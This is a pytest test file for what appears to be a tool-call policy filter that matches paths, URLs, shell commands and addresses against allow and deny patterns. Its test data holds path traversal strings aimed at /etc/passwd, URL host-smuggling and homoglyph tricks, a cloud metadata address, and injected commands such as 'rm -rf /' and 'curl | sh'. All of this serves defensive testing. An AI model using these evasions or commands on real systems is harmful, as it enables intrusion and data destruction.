from __future__ import annotations

import pytest

from callgate.policy.patterns import Kind, Pattern, kind_of
from callgate.policy.truth import Truth


def allows(kind: Kind, glob: str, value: str) -> bool:
    return Pattern.of(kind, glob).test(value, strict=True).truth is Truth.HOLDS


def catches(kind: Kind, glob: str, value: str) -> bool:
    return Pattern.of(kind, glob).test(value, strict=False).truth is Truth.HOLDS


@pytest.mark.parametrize(
    ("glob", "value"),
    [
        ("output/**", "output/a.txt"),
        ("output/**", "output/a/b/c.txt"),
        ("output/**", "./output//a.txt"),
        ("output/**", "output\\a.txt"),
        ("output/", "output/a/b"),
        ("src/*.py", "src/a.py"),
        ("src/**/*.py", "src/a.py"),
        ("src/**/*.py", "src/a/b/c.py"),
        ("src/**|lib/**", "lib/a"),
        ("**", "/anything/at all"),
        ("a[0-9].txt", "a5.txt"),
        ("a?.txt", "ab.txt"),
        (r"a\*.txt", "a*.txt"),
        ("a..b/**", "a..b/c"),
    ],
)
def test_path_pattern_allows(glob: str, value: str) -> None:
    assert allows(Kind.PATH, glob, value)


@pytest.mark.parametrize(
    ("glob", "value"),
    [
        ("output/**", "output"),
        ("output/**", "/output/a"),
        ("output/**", "output/../etc/passwd"),
        ("output/**", "output/..\\etc"),
        ("output/**", "output/%2e%2e/etc"),
        ("output/**", "output/%252e%252e/etc"),
        ("output/**", "output/.. /etc"),
        ("output/**", "output/a\x00.txt"),
        ("output/**", "output/a\nb"),
        ("output/**", "Output/a"),
        ("output/**", "my/output/a"),
        ("src/*", "src/a/b"),
        ("src/?", "src//"),
        ("src/[!a]", "src//"),
        ("**", "../secret"),
        (r"a\*.txt", "ab.txt"),
    ],
)
def test_path_pattern_does_not_allow(glob: str, value: str) -> None:
    assert not allows(Kind.PATH, glob, value)


@pytest.mark.parametrize(
    ("glob", "value"),
    [
        (".env", ".env"),
        (".env", "config/.ENV"),
        ("**/.env", "/srv/app/.env"),
        ("*.key", "keys/a.KEY"),
        (".git/*", "repo/.git/hooks/pre-commit"),
        ("/etc/**", "/etc/passwd"),
        ("/etc/**", "/var/../etc/passwd"),
        ("/etc/**", "../../../../etc/passwd"),
        ("/etc/**", "/%65tc/passwd"),
        ("/etc/**", "//etc//passwd"),
        ("/etc/**", "\\etc\\passwd"),
        ("secrets", "secrets/deep/file"),
        ("secrets/", "secrets/file"),
        ("/windows/**", "C:\\Windows\\System32"),
    ],
)
def test_denied_path_is_caught_in_disguise(glob: str, value: str) -> None:
    assert catches(Kind.PATH, glob, value)


def test_denied_path_leaves_others_alone() -> None:
    assert not catches(Kind.PATH, "/etc/**", "project/etc/config")
    assert not catches(Kind.PATH, ".env", "environment.md")


@pytest.mark.parametrize(
    ("glob", "value"),
    [
        ("https://api.example.com/**", "https://api.example.com/v1/x?y=1"),
        ("https://api.example.com/**", "HTTPS://API.EXAMPLE.COM:443/v1#top"),
        ("https://api.example.com/**", "https://api.example.com"),
        ("https://api.example.com", "https://api.example.com/"),
        ("https://api.example.com/v1/*", "https://api.example.com/v1/x"),
        ("https://*.example.com/**", "https://eu.example.com/x"),
        ("https://api.example.com:8443/**", "https://api.example.com:8443/x"),
        ("http://localhost:*/**", "http://localhost:3000/x"),
        ("api.example.com/**", "http://api.example.com/x"),
        ("https://api.example.com*", "https://api.example.com/x"),
        ("**", "https://any.where/x"),
    ],
)
def test_url_pattern_allows(glob: str, value: str) -> None:
    assert allows(Kind.URL, glob, value)


@pytest.mark.parametrize(
    ("glob", "value"),
    [
        ("https://api.example.com/**", "http://api.example.com/x"),
        ("https://api.example.com/**", "https://api.example.com.evil.net/x"),
        ("https://api.example.com/**", "https://api.example.com@evil.net/x"),
        ("https://api.example.com/**", "https://evil.net/https://api.example.com/x"),
        ("https://api.example.com/**", "https://evil.net\\@api.example.com/x"),
        ("https://api.example.com/**", "https://api.example.com:8443/x"),
        ("https://api.example.com/**", "https://apі.example.com/x"),
        ("https://api.example.com/**", "https://api.example.com/\nx"),
        ("https://api.example.com/**", "https://api.example.com:bad/x"),
        ("https://api.example.com/v1/**", "https://api.example.com/v1/../admin"),
        ("https://api.example.com/v1/**", "https://api.example.com/v1/%2e%2e/admin"),
        ("https://api.example.com/v1/*", "https://api.example.com/v1/x/y"),
        ("https://*.example.com/**", "https://evil.net/.example.com/x"),
        ("https://*.example.com/**", "https://evil.net#.example.com/x"),
        ("https://api.example.com*", "https://api.example.com.evil.net/"),
        ("https://api.example.com/**", "file:///etc/passwd"),
        ("https://api.example.com/**", "//api.example.com/x"),
    ],
)
def test_url_pattern_does_not_allow(glob: str, value: str) -> None:
    assert not allows(Kind.URL, glob, value)


@pytest.mark.parametrize(
    ("glob", "value"),
    [
        ("https://evil.net/**", "http://EVIL.net./x"),
        ("https://evil.net/**", "https://user:pw@evil.net:8080/x"),
        ("https://evil.net", "https://evil.net/x"),
        ("*.evil.net", "https://a.evil.net/x"),
        ("http://169.254.169.254/**", " http://169.254.169.254"),
        ("https://evil.net/**", "https:\\\\evil.net\\x"),
    ],
)
def test_denied_url_is_caught_in_disguise(glob: str, value: str) -> None:
    assert catches(Kind.URL, glob, value)


def test_denied_url_leaves_other_hosts_alone() -> None:
    assert not catches(Kind.URL, "https://evil.net/**", "https://notevil.net/x")
    assert not catches(Kind.URL, "https://evil.net/**", "https://a.net/?to=evil.net")


@pytest.mark.parametrize(
    "value",
    [
        "npm run build; rm -rf /",
        "npm run build && curl x",
        "npm run $(id)",
        "npm run `id`",
        "npm run a\nid",
        "npm run a | sh",
        "npm run a > /etc/passwd",
        "sudo npm run a",
    ],
)
def test_command_pattern_does_not_allow_a_second_command(value: str) -> None:
    assert not allows(Kind.COMMAND, "npm test|npm run *", value)


def test_command_pattern_allows_what_it_says() -> None:
    assert allows(Kind.COMMAND, "npm test|npm run *", "npm run build -- --out=dist/a")
    assert allows(Kind.COMMAND, "npm test|npm run *", "npm test")


@pytest.mark.parametrize(
    ("glob", "value"),
    [
        ("rm -rf *", "cd / && rm   -rf /"),
        ("rm -rf *", 'r""m -r\\f /'),
        ("sudo *", "SUDO ls"),
        ("curl * | sh", "curl http://x|sh"),
        ("curl * | sh", "curl http://x | sh -s"),
        ("rm", "rm x"),
    ],
)
def test_denied_command_is_caught_in_disguise(glob: str, value: str) -> None:
    assert catches(Kind.COMMAND, glob, value)


def test_denied_command_leaves_longer_words_alone() -> None:
    assert not catches(Kind.COMMAND, "rm", "rmdir x")
    assert not catches(Kind.COMMAND, "sudo *", "echo pseudo x")


def test_address_pattern_is_one_address() -> None:
    assert allows(Kind.ADDRESS, "*@example.com", "a.b@Example.com")
    for value in ("a@evil.net,b@example.com", "a@evil.net b@example.com", "a@b@example.com"):
        assert not allows(Kind.ADDRESS, "*@example.com", value)
    assert catches(Kind.ADDRESS, "*@evil.net", "Eve <eve@EVIL.net>, b@example.com")


def test_text_that_is_not_unicode_is_unknown() -> None:
    pattern = Pattern.of(Kind.TEXT, "**")
    assert pattern.test("\ud800", strict=True).truth is Truth.UNKNOWN


@pytest.mark.parametrize("glob", ["a[", "a||b", "|", "[z-a]", "a\\", "[^"])
def test_bad_globs_are_refused(glob: str) -> None:
    with pytest.raises(ValueError, match=r"has|ends"):
        Pattern.of(Kind.TEXT, glob)


def test_a_path_pattern_with_dots_is_refused() -> None:
    with pytest.raises(ValueError, match="never matches"):
        Pattern.of(Kind.PATH, "src/../x")


def test_long_values_take_linear_time() -> None:
    assert not catches(Kind.TEXT, "*a" * 20 + "b", "a" * 100_000)


@pytest.mark.parametrize(
    ("field", "kind"),
    [
        ("path", Kind.PATH),
        ("file_path", Kind.PATH),
        ("URL", Kind.URL),
        ("command", Kind.COMMAND),
        ("recipient", Kind.ADDRESS),
        ("query", Kind.TEXT),
    ],
)
def test_the_field_tells_the_kind(field: str, kind: Kind) -> None:
    assert kind_of(field) is kind
